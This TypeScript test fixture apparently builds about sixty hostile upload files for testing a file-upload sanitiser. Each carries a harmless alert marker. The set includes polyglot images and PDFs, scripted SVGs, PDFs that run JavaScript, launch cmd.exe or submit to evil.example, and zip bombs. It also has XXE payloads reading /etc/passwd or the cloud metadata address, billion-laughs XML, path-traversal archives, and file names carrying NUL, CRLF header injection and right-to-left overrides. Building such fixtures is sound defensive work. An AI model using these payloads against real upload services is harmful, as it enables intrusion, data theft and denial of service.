/** Files that an attacker would upload, made here: every one carries MARK, so that what remains of it can be looked for. */
import { deflateSync, gzipSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import sharp from 'sharp'
import { pdfOf, pngOf, stream } from './hostile-parts.ts'

export const MARK = 'alert("understory-hostile")'
const SCRIPT = `<script>${MARK}</script>`

export type HostileFile = { readonly what: string; readonly name: string; readonly bytes: Buffer }

/** An archive in archives: a few kilobytes that unpack to gigabytes. */
function bomb(): Uint8Array {
  const zeros = new Uint8Array(4 * 1024 * 1024)
  let packed = zipSync({ a: zeros })
  for (let depth = 0; depth < 2; depth += 1)
    packed = zipSync(Object.fromEntries(Array.from({ length: 10 }, (_, index) => [`${index}.zip`, packed])))
  return packed
}

const workbook = (files: Readonly<Record<string, string>>): Buffer =>
  Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      ),
      'xl/workbook.xml': strToU8('<workbook/>'),
      ...Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])),
    }),
  )

const ENTITY = (declared: string, used: string) =>
  Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE d [${declared}]><Document><BkToCstmrStmt>${used}${MARK}</BkToCstmrStmt></Document>`,
  )

const LAUGHS = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join('')

/** Sixty and some, each another way in. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const canvas = sharp({ create: { width: 24, height: 16, channels: 3, background: '#2a7a50' } })
  const png = await canvas.clone().png().toBuffer()
  const jpeg = await canvas
    .clone()
    .withExif({ IFD0: { ImageDescription: SCRIPT } })
    .jpeg()
    .toBuffer()
  const gif = await canvas.clone().gif().toBuffer()
  const webp = await canvas.clone().webp().toBuffer()
  const tiff = await canvas.clone().tiff().toBuffer()
  const paper = pdfOf('')
  const script = Buffer.from(SCRIPT)
  const zip = Buffer.from(zipSync({ 'a.html': strToU8(SCRIPT) }))
  const svg = (inner: string, attributes = '') =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${inner}</svg>`)
  const action = (kind: string) => pdfOf('/OpenAction 4 0 R', [kind])
  const js = `<< /S /JavaScript /JS (app.${MARK}) >>`
  const hidden = deflateSync(Buffer.from(`${js} `)).toString('latin1')
  const files: readonly (readonly [string, string, Buffer | string])[] = [
    // Polyglots
    ['PDF and script', 'a.pdf', `%PDF-1.7\n${SCRIPT}`],
    ['PDF and script, ending as one', 'a.pdf', `%PDF-1.7\n${SCRIPT}\n%%EOF`],
    ['script before a PDF', 'a.pdf', Buffer.concat([script, paper])],
    ['script behind a PDF', 'a.pdf', Buffer.concat([paper, script])],
    ['archive behind a PDF', 'a.pdf', Buffer.concat([paper, zip])],
    ['archive behind a PDF that ends as one', 'a.pdf', Buffer.concat([paper, zip, Buffer.from('\n%%EOF')])],
    ['program before a PDF', 'a.pdf', Buffer.concat([Buffer.from('MZ\x90\0'), paper])],
    ['GIF and script', 'a.gif', `GIF89a/*${SCRIPT}*/=1;${MARK}`],
    ['whole GIF and script', 'a.gif', Buffer.concat([gif, script])],
    ['GIF that calls itself a PNG', 'a.png', Buffer.concat([gif, script])],
    ['PNG with a script behind it', 'a.png', Buffer.concat([png, script])],
    ['PNG with an archive behind it', 'a.png', Buffer.concat([png, zip])],
    ['PNG with PHP behind it', 'a.png', Buffer.concat([png, Buffer.from(`<?php ${MARK} ?>`)])],
    ['JPEG with a script in its description', 'a.jpg', jpeg],
    ['JPEG with a script behind it', 'a.jpg', Buffer.concat([jpeg, script])],
    ['WebP with a script behind it', 'a.webp', Buffer.concat([webp, script])],
    ['JPEG that calls itself a PDF', 'a.pdf', jpeg],
    ['HTML that calls itself a PDF', 'a.pdf', `<html>${SCRIPT}</html>`],
    ['HTML that calls itself a picture', 'a.png', `<html>${SCRIPT}</html>`],
    ['JavaScript that calls itself a CSV', 'a.csv', MARK],
    // SVG
    ['SVG with a script', 'a.svg', svg(SCRIPT)],
    ['SVG with a handler', 'a.svg', svg('', `onload='${MARK}'`)],
    ['SVG with foreign HTML', 'a.svg', svg(`<foreignObject>${SCRIPT}</foreignObject>`)],
    ['SVG that fetches a file', 'a.svg', svg(`<image href="file:///etc/passwd"/>${SCRIPT}`)],
    ['SVG that calls itself a PNG', 'a.png', svg(SCRIPT)],
    ['packed SVG', 'a.svgz', gzipSync(svg(SCRIPT))],
    // PDF that does something
    ['PDF that opens with a script', 'a.pdf', action(js)],
    ['PDF with a script under an escaped name', 'a.pdf', action(`<< /S /J#61vaScript /J#53 (${MARK}) >>`)],
    [
      'PDF with a script among its names',
      'a.pdf',
      pdfOf('/Names << /JavaScript << /Names [(x) 4 0 R] >> >>', [js]),
    ],
    ['PDF with a script on its page', 'a.pdf', pdfOf('', [js], '/AA << /O 4 0 R >>')],
    [
      'PDF with a script behind a link',
      'a.pdf',
      pdfOf('', [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${js} >>`], '/Annots [4 0 R]'),
    ],
    ['PDF that starts a program', 'a.pdf', action(`<< /S /Launch /F (cmd.exe) /Note (${MARK}) >>`)],
    [
      'PDF that sends a form',
      'a.pdf',
      action(`<< /S /SubmitForm /F (https://evil.example/${MARK.length}) >>`),
    ],
    [
      'PDF that opens another file',
      'a.pdf',
      action('<< /S /GoToR /F (//evil.example/share/a.pdf) /D [0 /Fit] >>'),
    ],
    ['PDF that imports data', 'a.pdf', action('<< /S /ImportData /F (a.fdf) >>')],
    [
      'PDF that carries a program',
      'a.pdf',
      pdfOf('/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>', [
        '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 5 0 R >> >>',
        stream(`MZ${MARK}`, '/Type /EmbeddedFile'),
      ]),
    ],
    [
      'PDF that carries a program called XML',
      'a.pdf',
      pdfOf('/Names << /EmbeddedFiles << /Names [(a.xml) 4 0 R] >> >>', [
        '<< /Type /Filespec /F (a.exe) /UF (a.xml) /EF << /F 5 0 R >> >>',
        stream(MARK, '/Type /EmbeddedFile'),
      ]),
    ],
    [
      'PDF that carries a table called XML',
      'a.pdf',
      pdfOf('/Names << /EmbeddedFiles << /Names [(a.xml) 4 0 R] >> >>', [
        '<< /Type /Filespec /F (a.xml) /UF (a.xml) /EF << /F 5 0 R >> >>',
        stream(MARK, '/Type /EmbeddedFile'),
      ]),
    ],
    [
      'PDF that carries a file in a note',
      'a.pdf',
      pdfOf('', ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>'], '/Annots [4 0 R]'),
    ],
    ['PDF that carries a portfolio', 'a.pdf', pdfOf('/Collection << /View /T >>')],
    [
      'PDF with a script that is an additional action',
      'a.pdf',
      pdfOf('/AA << /WC << /S /Named /N /Print >> >>'),
    ],
    ['PDF with a form of its own language', 'a.pdf', pdfOf('/AcroForm << /XFA 4 0 R >>', [stream(SCRIPT)])],
    [
      'PDF with a film',
      'a.pdf',
      pdfOf('', ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'], '/Annots [4 0 R]'),
    ],
    [
      'PDF with a packed script that nothing names',
      'a.pdf',
      pdfOf('/OpenAction 9 0 R', [stream(hidden, '/Filter /FlateDecode')]),
    ],
    [
      'PDF that is protected',
      'a.pdf',
      pdfOf(
        '',
        [
          '<< /Filter /Standard /V 1 /R 2 /O (aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) /U (bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb) /P -4 >>',
        ],
        '',
        '/Encrypt 4 0 R /ID [(0123456789abcdef) (0123456789abcdef)]',
      ),
    ],
    [
      'PDF whose pages are a circle',
      'a.pdf',
      Buffer.from(paper.toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]'), 'latin1'),
    ],
    [
      'PDF without pages',
      'a.pdf',
      Buffer.from(
        paper.toString('latin1').replace('/Count 1', '/Count 0').replace('/Kids [3 0 R]', '/Kids [     ]'),
        'latin1',
      ),
    ],
    ['PDF cut in half', 'a.pdf', paper.subarray(0, paper.length >> 1)],
    // Archives and spreadsheets
    ['archive of archives of zeros', 'a.zip', Buffer.from(bomb())],
    ['archive of archives that calls itself a workbook', 'a.xlsx', Buffer.from(bomb())],
    ['packed zeros that call themselves a CSV', 'a.csv', gzipSync(Buffer.alloc(20 * 1024 * 1024))],
    [
      'workbook with macros',
      'a.xlsm',
      workbook({ 'xl/vbaProject.bin': `Sub Auto_Open()\n${MARK}\nEnd Sub` }),
    ],
    ['workbook with macros that calls itself another', 'a.xlsx', workbook({ 'xl/vbaProject.bin': MARK })],
    [
      'workbook with an outside entity',
      'a.xlsx',
      workbook({
        'xl/sharedStrings.xml': `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst>&e;${MARK}</sst>`,
      }),
    ],
    ['archive that climbs out', 'a.zip', Buffer.from(zipSync({ '../../../etc/cron.d/x': strToU8(MARK) }))],
    // XML
    ['XML that reads a file', 'a.xml', ENTITY('<!ENTITY e SYSTEM "file:///etc/passwd">', '&e;')],
    [
      'XML that asks another server',
      'a.xml',
      ENTITY('<!ENTITY % e SYSTEM "http://169.254.169.254/"> %e;', ''),
    ],
    ['XML that laughs a billion times', 'a.xml', ENTITY(`<!ENTITY l0 "ha">${LAUGHS}`, '&l9;')],
    ['XML nested without an end', 'a.xml', `${'<a>'.repeat(100_000)}${MARK}`],
    // Pictures
    ['picture of 400 million pixels', 'a.png', pngOf(20_000, 20_000)],
    ['picture of two milliards in a row', 'a.png', pngOf(2_147_483_647, 1)],
    ['picture whose content is too short', 'a.png', pngOf(3_000, 3_000)],
    ['PNG cut in half', 'a.png', png.subarray(0, png.length >> 1)],
    ['TIFF', 'a.tiff', tiff],
    ['TIFF that calls itself a JPEG', 'a.jpg', tiff],
    // Names and nothing
    ['double ending, the last one a program', 'paper.pdf.exe', paper],
    ['double ending, the last one a page', 'photo.png.html', Buffer.concat([png, script])],
    ['name that climbs out', '../../../etc/cron.d/x.png', Buffer.concat([png, script])],
    ['name that climbs out on Windows', '..\\..\\autoexec.png', Buffer.concat([png, script])],
    ['name with a NUL', 'a.php\u0000.png', Buffer.concat([png, script])],
    ['name with markup', `"><img src=x onerror='x'>.png`, Buffer.concat([png, script])],
    ['name with a line of a header', 'a\r\nset-cookie: x=1\r\n.png', Buffer.concat([png, script])],
    ['name that turns around', 'a\u202Egnp.exe.png', Buffer.concat([png, script])],
    ['name without an end', `${'a'.repeat(5_000)}.png`, Buffer.concat([png, script])],
    ['nothing', 'a.pdf', ''],
    ['one NUL', 'a.png', '\0'],
    ['random bytes', 'a.pdf', Buffer.from(Array.from({ length: 4_096 }, (_, index) => (index * 7919) % 251))],
  ]
  return files.map(([what, name, content]) => ({ what, name, bytes: Buffer.from(content) }))
}
